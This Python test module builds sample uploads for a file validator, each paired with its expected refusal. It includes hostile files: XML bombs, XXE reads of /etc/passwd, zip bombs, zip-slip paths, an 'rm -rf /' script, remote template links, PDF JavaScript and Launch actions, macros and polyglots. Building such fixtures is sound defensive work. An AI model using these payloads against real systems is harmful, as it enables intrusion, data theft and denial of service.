"""Files that the library takes, and files that are made to harm: each is built when asked for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import docx
import pptx
import pypdf
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def word(*paragraphs: str) -> bytes:
    """A Word document of these paragraphs."""
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def slides(*texts: str, notes: str = "") -> bytes:
    """A presentation with a slide for each text, and notes on the last one."""
    deck = pptx.Presentation()
    for text in texts:
        slide = deck.slides.add_slide(deck.slide_layouts[5])
        slide.shapes.title.text = text
        table = slide.shapes.add_table(1, 1, 0, 0, 999, 999).table
        table.cell(0, 0).text = f"cell of {text}"
    slide.notes_slide.notes_text_frame.text = notes
    file = io.BytesIO()
    deck.save(file)
    return file.getvalue()


def pdf(*texts: str, pages: int = 0) -> bytes:
    """A PDF with a page for each text, and empty pages."""
    writer = pypdf.PdfWriter()
    for text in texts:
        page = writer.add_blank_page(600, 800)
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 12 Tf 10 700 Td ({text}) Tj ET".encode())
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        fonts = DictionaryObject({NameObject("/F1"): font})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        page[NameObject("/Contents")] = writer._add_object(content)
    for _ in range(pages):
        writer.add_blank_page(600, 800)
    return _written(writer)


def _written(writer: pypdf.PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def png(width: int = 2, height: int = 2) -> bytes:
    """A picture that says it has this size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0\0\0" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2) -> bytes:
    """The head of a photo that says it has this size."""
    frame = struct.pack(">BBHBHHB", 0xFF, 0xC0, 11, 8, height, width, 1) + b"\1\x11\0"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0" + frame + b"\xff\xd9"


def mp4() -> bytes:
    """The head of a video."""
    return struct.pack(">I", 24) + b"ftypisom\0\0\2\0isommp41" + b"\0\0\0\x08mdat"


def package(
    kind: str = "docx",
    parts: Mapping[str, bytes] | None = None,
    *,
    main: bytes = b"<a/>",
    content_type: str = "",
) -> bytes:
    """A package of Office with these parts besides the main one."""
    name, usual = _MAIN[kind]
    types = f'<Types><Override PartName="/{name}" ContentType="x.{content_type or usual}"/></Types>'
    return archive({"[Content_Types].xml": types.encode(), name: main, **(parts or {})})


def archive(members: Mapping[str, bytes]) -> bytes:
    """A ZIP of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in members.items():
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def _link() -> bytes:
    file = io.BytesIO(package())
    with zipfile.ZipFile(file, "a") as made:
        info = zipfile.ZipInfo("word/media/a.png")
        info.external_attr = 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    return file.getvalue()


def _twice() -> bytes:
    file = io.BytesIO(package())
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("Word/Document.xml", "<b/>")
    return file.getvalue()


def _locked_member() -> bytes:
    raw = bytearray(package())
    at = raw.rindex(b"PK\1\2")
    raw[at + 8] |= 1
    return bytes(raw)


def _lying_size() -> bytes:
    """A bomb whose directory says that it is small."""
    raw = bytearray(package(parts={"word/a.xml": b"<" + b"a" * 2_000_000}))
    at = raw.rindex(b"PK\1\2")
    raw[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(raw)


def _nested(depth: int) -> bytes:
    raw = package("xlsx")
    for _ in range(depth):
        raw = package(parts={"word/embeddings/a.xlsx": raw})
    return raw


def _ole(*streams: str) -> bytes:
    return OLE + b"\0" * 600 + b"\0".join(name.encode("utf-16-le") for name in streams)


def _relations(kind: str) -> bytes:
    return (
        '<Relationships><Relationship Id="r1" Target="http://198.51.100.7/t.dotm"'
        f' TargetMode="External" Type="http://x/{kind}"/></Relationships>'
    ).encode()


def _pdf_with(change: Callable[[pypdf.PdfWriter], object]) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(600, 800)
    change(writer)
    return _written(writer)


def _opening(kind: str) -> Callable[[pypdf.PdfWriter], None]:
    """Has a PDF do something when it is opened."""

    def change(writer: pypdf.PdfWriter) -> None:
        action = {NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("cmd")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)

    return change


_LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(20))
    + b"]><a>&u;</a>"
)
_OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

# Each by what it is, with a word of the refusal.
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "svg": ("logo.svg", lambda: _SVG, "SVG, HTML"),
    "svg in utf-16": ("logo.svg", lambda: _SVG.decode().encode("utf-16"), "SVG, HTML"),
    "html": ("deck.pdf", lambda: b"\n <!doctype html><script>alert(1)</script>", "SVG, HTML"),
    "xml bomb": ("deck.xml", lambda: b"<?xml version='1.0'?>" + _LAUGHS, "SVG, HTML"),
    "program": ("deck.pdf", lambda: b"MZ\x90\0" + b"\0" * 900, "not taken"),
    "shell script": ("deck.pdf", lambda: b"#!/bin/sh\nrm -rf /", "not taken"),
    "shortcut": ("deck.lnk", lambda: b"L\0\0\0\x01\x14\x02\0", "not taken"),
    "zip": ("deck.zip", lambda: archive({"deck.pdf": pdf("a")}), "archive"),
    "jar": ("deck.jar", lambda: archive({"META-INF/MANIFEST.MF": b"a"}), "archive"),
    "rar": ("deck.rar", lambda: b"Rar!\x1a\x07\1\0aaaa", "archive"),
    "gzip": ("deck.pdf", lambda: b"\x1f\x8b\x08\0aaaa", "archive"),
    "zip bomb": ("deck.docx", lambda: package(parts={"a.xml": b"\0" * 301_000_000}), "300 MB"),
    "zip bomb that lies": ("deck.docx", _lying_size, "damaged"),
    "many members": (
        "deck.docx",
        lambda: package(parts={f"word/{number}.xml": b"" for number in range(6000)}),
        "too many parts",
    ),
    "zip slip": ("deck.docx", lambda: package(parts={"../../etc/cron.d/a": b"a"}), "elsewhere"),
    "absolute path": ("deck.docx", lambda: package(parts={"/etc/a": b"a"}), "elsewhere"),
    "drive": ("deck.docx", lambda: package(parts={"C:\\a.xml": b"a"}), "elsewhere"),
    "symbolic link": ("deck.docx", _link, "elsewhere"),
    "two parts of one name": ("deck.docx", _twice, "damaged"),
    "packages in packages": ("deck.docx", lambda: _nested(6), "archive"),
    "archive in a package": (
        "deck.docx",
        lambda: package(parts={"word/embeddings/a.bin": archive({"a": b"a"})}),
        "archive",
    ),
    "macros": ("deck.docx", lambda: package(parts={"word/vbaProject.bin": _ole()}), "macros"),
    "macros by type": (
        "deck.docx",
        lambda: package(content_type="document.macroEnabled.main+xml"),
        "macros",
    ),
    "macros under another name": (
        "deck.pptx",
        lambda: package("pptx", {"ppt/media/a.png": _ole("_VBA_PROJECT")}),
        "macros",
    ),
    "macros in an embedded workbook": (
        "deck.docx",
        lambda: package(
            parts={"word/embeddings/a.xlsx": package("xlsx", {"xl/vbaProject.bin": b"a"})}
        ),
        "macros",
    ),
    "controls": ("deck.docx", lambda: package(parts={"word/activeX/a.xml": b"<a/>"}), "macros"),
    "embedded program": (
        "deck.docx",
        lambda: package(parts={"word/embeddings/a.bin": b"MZ\x90\0"}),
        "other files",
    ),
    "packaged file": (
        "deck.docx",
        lambda: package(parts={"word/embeddings/a.bin": _ole("\x01Ole10Native")}),
        "other files",
    ),
    "template from elsewhere": (
        "deck.docx",
        lambda: package(parts={"word/_rels/a.rels": _relations("attachedTemplate")}),
        "from elsewhere",
    ),
    "template from elsewhere, written otherwise": (
        "deck.docx",
        lambda: package(
            parts={
                "word/_rels/a.rels": b"<r:Relationships xmlns:r='x'><r:Relationship Id='a>b'"
                b" TargetMode = '&#69;xternal' Target='http://198.51.100.7/t.dotm'"
                b" Type = 'http://x/oleObject'/></r:Relationships>"
            }
        ),
        "from elsewhere",
    ),
    "entities under another name": (
        "deck.docx",
        lambda: package(parts={"word/a.dat": _OUTSIDE}),
        "no Office program",
    ),
    "laughs in a document": ("deck.docx", lambda: package(main=_LAUGHS), "no Office program"),
    "file of the server": ("deck.docx", lambda: package(main=_OUTSIDE), "no Office program"),
    "file of the server in utf-16": (
        "deck.docx",
        lambda: package(main=_OUTSIDE.decode().encode("utf-16")),
        "no Office program",
    ),
    "rare encoding": (
        "deck.docx",
        lambda: package(main=b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-'),
        "damaged",
    ),
    "script in an icon": (
        "deck.pptx",
        lambda: package("pptx", {"ppt/media/a.svg": _SVG}),
        "scripts",
    ),
    "locked package": ("deck.docx", _locked_member, "password"),
    "locked document": ("deck.docx", lambda: _ole("EncryptedPackage"), "password"),
    "old document": ("deck.doc", lambda: _ole("WordDocument", "_VBA_PROJECT"), "old version"),
    "locked pdf": ("deck.pdf", lambda: _pdf_with(lambda made: made.encrypt("a")), "password"),
    "script in a pdf": (
        "deck.pdf",
        lambda: _pdf_with(_opening("/JavaScript")),
        "scripts",
    ),
    "script with a numbered name": (
        "deck.pdf",
        lambda: pdf("a").replace(b"/Catalog", b"/Catalog /OpenAction << /S /J#61vaScript >>"),
        "scripts",
    ),
    "pdf that starts a program": ("deck.pdf", lambda: _pdf_with(_opening("/Launch")), "scripts"),
    "file in a pdf": (
        "deck.pdf",
        lambda: _pdf_with(lambda made: made.add_attachment("a.exe", b"MZ")),
        "other files",
    ),
    "pdf and zip": ("deck.pdf", lambda: pdf("a") + archive({"a": b"a"}), "two kinds"),
    "picture and zip": ("logo.png", lambda: png() + archive({"a": b"a"}), "damaged"),
    "photo and zip": ("logo.jpg", lambda: jpeg() + archive({"a": b"a"}), "two kinds"),
    "html after a picture": ("logo.png", lambda: png() + b"<script>alert(1)</script>", "damaged"),
    "pdf after a script": ("deck.pdf", lambda: b"<script>1</script>" + pdf("a"), "SVG, HTML"),
    "zip after a script": ("deck.docx", lambda: b"#!/bin/sh\n" + package(), "not taken"),
    "picture of many pixels": ("logo.png", lambda: png(60_000, 60_000), "million pixels"),
    "photo of many pixels": ("logo.jpg", lambda: jpeg(65_000, 65_000), "million pixels"),
    "endless segments": ("logo.jpg", lambda: b"\xff\xd8\xff\xe0\0\0" + b"\0" * 99, "damaged"),
    "cut off picture": ("logo.png", lambda: png()[:20], "damaged"),
    "cut off document": ("deck.docx", lambda: package()[:-30], "damaged"),
    "cut off pdf": ("deck.pdf", lambda: b"%PDF-1.7\n", "damaged"),
    "document as pdf": ("deck.pdf", lambda: package(), "named .pdf"),
    "pdf as program": ("deck.pdf.exe", lambda: pdf("a"), "named .exe"),
    "nothing": ("deck.pdf", lambda: b"", "empty"),
}
